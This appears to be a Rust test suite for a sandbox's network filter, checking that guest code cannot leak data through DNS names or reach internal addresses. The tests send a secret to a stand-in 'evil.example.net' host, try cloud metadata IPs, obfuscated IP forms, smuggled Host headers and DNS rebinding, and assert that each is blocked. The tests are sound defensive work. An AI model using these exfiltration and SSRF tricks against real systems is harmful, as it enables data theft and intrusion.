//! Names: what the guest may ask, how it may spell it, and where a name may lead.

use matchlock_testkit::dns::Reply;
use serde_json::json;

use crate::lab::{API, EVIL, NetLab, Traps};

cases![
    data_in_names_does_not_leave,
    names_below_a_wildcard_are_bounded_and_recorded,
    a_name_has_one_spelling,
    numbers_are_not_names,
    host_headers_are_held_to_the_same_spelling,
    a_name_that_leads_inside_is_not_followed,
    a_name_that_moves_inside_is_not_followed,
    private_access_opens_its_range_and_no_other,
    the_host_is_reached_by_its_name_with_a_port_and_not_otherwise,
];

/// Tries a port of each name of the arguments.
const TRY: &str = r"
port = int(sys.argv[1])
for name in sys.argv[2:]:
    found = lookup(name)
    seen[name] = found if isinstance(found, str) else outcome(
        lambda: socket.create_connection((name, port), 10).close() or 'open')
";

fn data_in_names_does_not_leave() {
    let lab = NetLab::new();
    let secret = format!("KEY=value-of-the-secret@{API}");
    let seen = lab.python(
        &["--secret", &secret, "--allow-host", API],
        r"
for number in range(500):
    seen[f'{number}'] = ask(os.urandom(30).hex() + '.evil.example.net', (1, 16, 28, 65)[number % 4])
seen['placeholder'] = ask(os.environ['KEY'] + '.evil.example.net')
seen['below an allowed name'] = ask('data.api.example.com')
seen['beside'] = ask('apiXexample.com')
seen['resolver'] = status('https://data-' + 'a' * 40 + '.evil.example.net/')
",
        &[],
    );
    let mut seen = seen;
    assert_eq!(seen.as_object_mut().expect("an object").remove("resolver"), Some(json!("curl 6")));
    assert!(seen.as_object().expect("an object").values().all(|got| got == "3/0"), "{seen}");
    assert_eq!(lab.dns.received(), []);
    assert!(lab.events("dns").len() >= 504, "each of them is recorded");
}

fn names_below_a_wildcard_are_bounded_and_recorded() {
    let lab = NetLab::with(&["*.wild.example.com"]);
    let seen = lab.python(
        &["--allow-host", "*.wild.example.com"],
        r"
w = '.wild.example.com'
seen['one'] = ask('a' + w)
seen['TXT'] = ask('a' + w, 16)
seen['HTTPS'] = ask('a' + w, 65)
seen['ANY'] = ask('a' + w, 255)
seen['apex'] = ask('wild.example.com')
seen['seven'] = ask('.'.join('abcdefg') + w)
seen['eight'] = ask('.'.join('abcdefgh') + w)
seen['long'] = ask('.'.join(['x' * 60] * 2) + w)
seen['short'] = ask('.'.join(['x' * 50] * 2) + w)
before = [ask(f'n{n}' + w) for n in range(300)]
seen['many'] = sorted(set(before))
seen['suffix'] = ask('wild.example.com.evil.example.net')
seen['inside'] = ask('a.wild.example.comx')
",
        &[],
    );
    assert_eq!(
        seen,
        json!({
            "one": "0/1", "TXT": "0/0", "HTTPS": "0/0", "ANY": "0/0", "apex": "3/0",
            "seven": "0/1", "eight": "3/0", "long": "3/0", "short": "0/1", "many": ["0/1"],
            "suffix": "3/0", "inside": "3/0",
        })
    );
    assert_eq!(lab.dns.received(), [], "names are asked for when they are dialled");
    let recorded = lab.events("dns");
    assert!(recorded.iter().any(|event| event["name"] == "n299.wild.example.com"));
    let refused =
        |name: &str| recorded.iter().any(|e| e["name"] == name && e["decision"] == "denied");
    assert!(refused("a.b.c.d.e.f.g.h.wild.example.com"), "{recorded:?}");
}

fn a_name_has_one_spelling() {
    let lab = NetLab::shared(&["--allow-host", API], &[API, EVIL]);
    let seen = lab.python(
        &["--allow-host", API],
        r"
def raw(*parts):
    wire = b''.join(bytes([len(part)]) + part for part in parts) + b'\0'
    return ask('', raw=struct.pack('>6H', 9, 0x0100, 1, 0, 0, 0) + wire + struct.pack('>2H', 1, 1))

seen['upper'] = ask('API.eXample.COM')
denied = {
    'NUL at the end': raw(b'api', b'example', b'com\0'),
    'NUL and more': raw(b'evil', b'example', b'net\0', b'api', b'example', b'com'),
    'NUL before': raw(b'evil\0', b'api', b'example', b'com'),
    'dots in a label': raw(b'api.example.com'),
    'dot in the last': raw(b'api', b'example.com'),
    'space': raw(b'api ', b'example', b'com'),
    'percent': raw(b'api%00', b'example', b'com'),
    'at': raw(b'evil@api', b'example', b'com'),
    'slash': raw(b'api', b'example', b'com/'),
    'newline': raw(b'api', b'example', b'com\n'),
    'backslash': raw(b'api\\', b'example', b'com'),
    'high': raw(b'\xc0api'[1:], b'ex\xe4mple', b'com'),
    'homograph': ask('xn--pi-7kc.example.com'),
    'full width': raw('ａｐｉ'.encode(), b'example', b'com'),
    'root': raw(),
    'long': raw(*[b'a' * 63] * 3, b'a' * 61),
}
seen['denied'] = denied
seen['homograph'] = lookup('\u0430pi.example.com')
seen['pointer'] = outcome(lambda: ask('', raw=struct.pack('>6H', 9, 0x0100, 1, 0, 0, 0) +
                          b'\xc0\x0c' + struct.pack('>2H', 1, 1)))
seen['two questions'] = ask('', raw=struct.pack('>6H', 9, 0x0100, 2, 0, 0, 0) +
                            question('api.example.com', 1)[12:] + question('evil.example.net', 1)[12:])
seen['status'] = [status(url) for url in ('https://API.EXAMPLE.com/', 'https://api.example.com./',
                                          'https://ａｐｉ.example.com/')]
",
        &[],
    );
    assert_eq!(seen["upper"], "0/1", "{seen}");
    for (name, got) in seen["denied"].as_object().expect("an object") {
        assert!(got == "3/0" || got == "1/0", "{name}: {got}");
    }
    assert_eq!(seen["homograph"], "unknown", "{seen}");
    for odd in ["pointer", "two questions"] {
        assert!(seen[odd] == "1/0" || seen[odd] == "timeout", "{odd}: {seen}");
    }
    assert_eq!(seen["status"][0], "200", "{seen}");
    assert_eq!(seen["status"][1], "200", "{seen}");
    assert!(lab.dns.received().iter().all(|asked| asked.name == API), "{:?}", lab.dns.received());
    for event in lab.events("dns") {
        let name = event["name"].as_str().expect("a name");
        assert!(name.bytes().all(|byte| byte.is_ascii_graphic()), "{event}");
    }
}

fn numbers_are_not_names() {
    let lab = NetLab::new();
    let traps = Traps::new();
    let seen = lab.python(
        &["--allow-host", "*"],
        r"
port = sys.argv[1]
numbers = ['2130706433', '0x7f000001', '0177.0.0.1', '127.1', '0x7f.1', '2852039166', '0xa9fea9fe',
           '0251.0376.0251.0376', '169.254.43518', '127.0.0.1', '0', '1.2.3.4.5', '256.1.1.1',
           'example.0x1', 'a.127', '10.0.0.1.']
seen['asked'] = sorted({ask(number) for number in numbers})
for number in numbers[:11]:
    seen[number] = status(f'http://{number}:{port}/')
for host in ('[::1]', '[::ffff:127.0.0.1]', '[::ffff:169.254.169.254]', '[64:ff9b::a9fe:a9fe]',
             '[::]', '[2002:a42:1::1]', '[fd00:ec2::254]', '169.254.169.254', '100.100.100.200'):
    seen[host] = status(f'http://{host}:{port}/')
",
        &[&traps.port()],
    );
    let mut seen = seen;
    assert_eq!(seen.as_object_mut().expect("an object").remove("asked"), Some(json!(["3/0"])));
    for (host, got) in seen.as_object().expect("an object") {
        assert_eq!(got, "curl 7", "{host}");
    }
    traps.assert_untouched();
    assert_eq!(lab.dns.received(), []);
}

fn host_headers_are_held_to_the_same_spelling() {
    let lab = NetLab::shared(&["--allow-host", API], &[API, EVIL]);
    let seen = lab.python(
        &["--allow-host", API],
        r"
def send(host, port=443):
    def work():
        name = 'api.example.com'
        stream = tls(name, 443, name) if port == 443 else connect(name, port)
        stream.sendall(b'GET / HTTP/1.1\r\nHost: ' + host + b'\r\nConnection: close\r\n\r\n')
        return read_all(stream)[9:12].decode()
    return outcome(work)

for host in sys.argv[1:]:
    host = host.encode().decode('unicode_escape').encode('latin-1')
    seen[host.decode('latin-1')] = [send(host), send(host, 80)]
",
        &[
            "api.example.com",
            "API.Example.COM",
            "api.example.com.",
            "api.example.com:443",
            "api.example.com:80",
            "api.example.com:0443",
            "api.example.com:",
            "evil.example.net",
            "api.example.com:8443",
            "user@api.example.com",
            "evil.example.net@api.example.com",
            "evil.example.net#api.example.com",
            "api.example.com/",
            "api.example.com\\x00.evil.example.net",
            "evil.example.net\\x00api.example.com",
            "api.example.com evil.example.net",
            "api.example.com,evil.example.net",
            "api.example.com..",
            "\\xd0\\xb0pi.example.com",
            "api%2eexample.com",
            "2130706433",
            "0x7f.1",
            "127.0.0.1",
            "[::1]",
            "localhost",
            "",
        ],
    );
    let seen = seen.as_object().expect("an object");
    let good = ["api.example.com", "API.Example.COM", "api.example.com."];
    let mut arrived = 0;
    for (host, got) in seen {
        for (got, own) in [(&got[0], ":443"), (&got[1], ":80")] {
            let fine = good.contains(&&**host) || host == &format!("{API}{own}");
            // A port that is empty or has zeros before it is the same port; being strict is fine.
            let either = host.ends_with(':') || host.ends_with(":0443");
            let refused = got == "400" || got == "421" || got == "403";
            assert!(if fine { got == "200" } else { refused || either }, "{host}{own}: {seen:?}");
            arrived += usize::from(got == "200");
        }
    }
    assert!(arrived >= 8, "{seen:?}");
    let requests = lab.origin.requests();
    assert_eq!(requests.len(), arrived);
    for request in &requests {
        let host = request.header("host").expect("a host").to_ascii_lowercase();
        assert!(host.trim_end_matches(['.', ':']).starts_with(API), "{host}");
    }
}

/// Answers that lead to places where the guest has no business.
fn inside() -> Vec<(&'static str, Reply)> {
    let one = |address| Reply::addresses(&[address]);
    let localhost = |target: &str| Reply::alias(target).address_of(target, "127.0.0.1");
    vec![
        ("loopback.example.com", one("127.0.0.1")),
        ("loopback2.example.com", one("127.8.8.8")),
        ("zero.example.com", one("0.0.0.0")),
        ("rfc1918.example.com", one("10.66.0.1")),
        ("rfc1918b.example.com", one("172.20.0.1")),
        ("rfc1918c.example.com", one("192.168.66.1")),
        ("nat.example.com", one("100.64.0.9")),
        ("metadata.example.com", one("169.254.169.254")),
        ("tasks.example.com", one("169.254.170.2")),
        ("alibaba.example.com", one("100.100.100.200")),
        ("link.example.com", one("169.254.7.7")),
        ("testnet.example.com", one("192.0.2.7")),
        ("loopback6.example.com", one("::1")),
        ("zero6.example.com", one("::")),
        ("metadata6.example.com", one("fd00:ec2::254")),
        ("unique.example.com", one("fd12::1")),
        ("mapped.example.com", one("::ffff:169.254.169.254")),
        ("mapped2.example.com", one("::ffff:127.0.0.1")),
        ("compatible.example.com", one("::127.0.0.1")),
        ("nat64.example.com", one("64:ff9b::a9fe:a9fe")),
        ("nat64b.example.com", one("64:ff9b::7f00:1")),
        ("sixtofour.example.com", one("2002:a42:1::1")),
        ("documents.example.com", one("2001:db8::7")),
        ("both.example.com", Reply::addresses(&["10.66.0.1", "::1"])),
        ("alias.example.com", localhost("localhost")),
        ("alias2.example.com", localhost("inner.example.org")),
        ("gateway.example.com", one("198.18.0.1")),
        ("synthetic.example.com", one("198.19.0.1")),
        // Issue 9: public, and this host's own.
        ("own.example.com", one("11.0.0.1")),
        ("own6.example.com", one("2a00::53")),
        ("own-in-6to4.example.com", one("2002:b00:1::1")),
    ]
}

fn a_name_that_leads_inside_is_not_followed() {
    for flag in ["*.example.com", "*"] {
        let lab = NetLab::new();
        let traps = Traps::new();
        let names = inside();
        for (name, reply) in &names {
            lab.dns.set(name, reply.clone());
        }
        let port = traps.port();
        let mut arguments = vec![&*port];
        arguments.extend(names.iter().map(|(name, _)| *name));
        let seen = lab.python(&["--allow-host", flag], TRY, &arguments);
        let refused = if flag == "*" { "unknown" } else { "ECONNREFUSED" };
        for (name, got) in seen.as_object().expect("an object") {
            assert_eq!(got, refused, "{name} with {flag}");
        }
        assert_eq!(seen.as_object().expect("an object").len(), names.len());
        traps.assert_untouched();
        if flag != "*" {
            let refusals = lab.events("flow_refused");
            let metadata = refusals.iter().any(|r| r["reason"].to_string().contains("metadata"));
            assert!(refusals.len() >= names.len() && metadata, "{refusals:?}");
        }
    }
}

fn a_name_that_moves_inside_is_not_followed() {
    let lab = NetLab::new();
    let traps = Traps::new();
    let public = lab.address.to_string();
    let one = |address: &str| Reply::addresses(&[address]);
    lab.dns.script("flip.example.com", [one(&public), one("127.0.0.1")]);
    lab.dns.script("flip6.example.com", [one(&public), one("::1")]);
    lab.dns.set("mixed.example.com", Reply::addresses(&["127.0.0.1", &public, "10.66.0.1", "::1"]));
    lab.dns.script("back.example.com", [one("169.254.169.254"), one(&public)]);
    let program = format!("for turn in range(4):\n    {}", {
        "port = int(sys.argv[1])
    for name in sys.argv[2:]:
        seen[f'{name} {turn}'] = outcome(
            lambda: socket.create_connection((name, port), 10).close() or 'open')"
    });
    let names = ["flip.example.com", "flip6.example.com", "mixed.example.com", "back.example.com"];
    let port = traps.port();
    let arguments = [&[&*port], &names[..]].concat();
    let seen = lab.python(&["--allow-host", "*.example.com"], &program, &arguments);
    assert_eq!(seen["flip.example.com 0"], "open", "{seen}");
    assert_eq!(seen["mixed.example.com 3"], "open", "{seen}");
    for caught in traps.caught() {
        assert_eq!(caught, public, "{seen}");
    }
    traps.assert_untouched();
}

fn private_access_opens_its_range_and_no_other() {
    let opened = |flags: &[&str]| {
        let lab = NetLab::new();
        let traps = Traps::new();
        let names = inside();
        for (name, reply) in &names {
            lab.dns.set(name, reply.clone());
        }
        let port = traps.port();
        let mut arguments = vec![&*port];
        arguments.extend(names.iter().map(|(name, _)| *name));
        arguments.extend(["10.66.0.1", "192.168.66.1"]);
        let flags = [&["--allow-host", "*.example.com"], flags].concat();
        let seen = lab.python(&flags, TRY, &arguments);
        let seen = seen.as_object().expect("an object");
        let open = seen.iter().filter(|(_, got)| *got == "open").map(|(name, _)| name.clone());
        let mut caught = traps.caught();
        caught.sort();
        caught.dedup();
        (open.collect::<Vec<_>>(), caught)
    };
    let (open, caught) = opened(&["--allow-private=10.66.0.0/24"]);
    // The NAT64 and 6to4 forms of the range are of the range.
    assert_eq!(caught.first().map(String::as_str), Some("10.66.0.1"), "{open:?}");
    assert!(caught.iter().all(|ip| ip == "10.66.0.1" || ip == "2002:a42:1::1"), "{caught:?}");
    assert!(open.contains(&"rfc1918.example.com".to_owned()), "{open:?}");
    assert!(!open.contains(&"10.66.0.1".to_owned()), "an address needs a rule itself: {open:?}");

    let (_, caught) = opened(&["--allow-private=10.66.0.1/32", "--allow-host", "10.66.0.1"]);
    assert!(caught.contains(&"10.66.0.1".to_owned()), "{caught:?}");
    assert!(!caught.contains(&"192.168.66.1".to_owned()), "{caught:?}");

    let (_, caught) = opened(&["--allow-private"]);
    let wanted = ["10.66.0.1", "100.64.0.9", "172.20.0.1", "192.168.66.1", "fd12::1"];
    let caught: Vec<_> = caught.iter().filter(|ip| *ip != "2002:a42:1::1").collect();
    assert_eq!(caught, wanted);

    let (_, caught) = opened(&["--allow-private=11.0.0.1,2a00::/64"]);
    assert!(!caught.is_empty() && caught.iter().all(|ip| ip == "11.0.0.1"), "{caught:?}");

    let (_, caught) = opened(&["--allow-private=169.254.169.254/32"]);
    let metadata = |ip: &String| ip == "169.254.169.254" || ip == "64:ff9b::a9fe:a9fe";
    assert!(!caught.is_empty() && caught.iter().all(metadata), "{caught:?}");
}

fn the_host_is_reached_by_its_name_with_a_port_and_not_otherwise() {
    let host = "host.matchlock.internal";
    let tried = |flags: &[&str]| {
        let lab = NetLab::new();
        let traps = Traps::new();
        let port = traps.port();
        let rule = format!("{host}:{port}");
        let flags: Vec<&str> =
            flags.iter().map(|flag| if *flag == "RULE" { &*rule } else { flag }).collect();
        let arguments = [&*port, host, "host.docker.internal", "127.0.0.1", "198.18.0.1"];
        let seen = lab.python(&flags, TRY, &arguments);
        assert_eq!(lab.dns.received(), []);
        assert_eq!(
            (&seen["127.0.0.1"], &seen["198.18.0.1"]),
            (&json!("ECONNREFUSED"), &json!("ECONNREFUSED"))
        );
        (seen[host].clone(), seen["host.docker.internal"].clone(), traps.caught())
    };
    let (own, docker, caught) = tried(&["--allow-host", "RULE"]);
    assert_eq!((own, docker), (json!("open"), json!("unknown")));
    assert!(caught == ["127.0.0.1"] || caught == ["::1"], "{caught:?}");
    for flags in [
        &["--allow-host", host][..],
        &["--allow-host", "*"],
        &["--allow-host", "*.internal", "--allow-private"],
        &["--allow-host", "host.matchlock.internal:1", "--allow-private"],
    ] {
        let (own, docker, caught) = tried(flags);
        assert!(own == "unknown" || own == "ECONNREFUSED", "{flags:?}: {own}");
        assert!(docker == "unknown" || docker == "ECONNREFUSED", "{flags:?}: {docker}");
        assert_eq!(caught, [""; 0], "{flags:?}");
    }
}
